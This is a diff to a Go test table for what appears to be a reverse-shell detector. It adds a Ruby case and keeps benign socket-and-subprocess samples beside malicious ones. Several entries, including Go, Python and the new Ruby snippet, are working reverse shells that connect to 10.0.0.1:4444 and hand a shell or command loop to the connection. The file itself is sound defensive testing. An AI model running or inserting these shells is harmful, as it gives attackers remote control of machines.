@@ -79,6 +79,7 @@ func TestInspectProgram(t *testing.T) {
 		{"a socket and a subprocess", Python, "import socket, subprocess\ns = socket.socket()\nsubprocess.run(['make'])\n", findReverse, ""},
 		{"Go: a connection and a command", Go, "c, _ := net.Dial(\"tcp\", \"127.0.0.1:9000\")\nout, _ := exec.Command(\"sh\", \"-c\", \"make test\").Output()\nc.Write(out)\n", findReverse, ""},
 		{"Go: a connection handed to a shell", Go, "c, _ := net.Dial(\"tcp\", \"10.0.0.1:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\ncmd.Run()\n", "", findReverse},
+		{"Ruby: commands read from a connection and run", Ruby, "s = TCPSocket.new(\"10.0.0.1\", 4444)\nwhile (cmd = s.gets)\n  IO.popen(cmd, \"r\") { |io| s.print io.read }\nend\n", "", findReverse},
 		{"a socket handed to a shell", Python, "import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n", "", findReverse},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
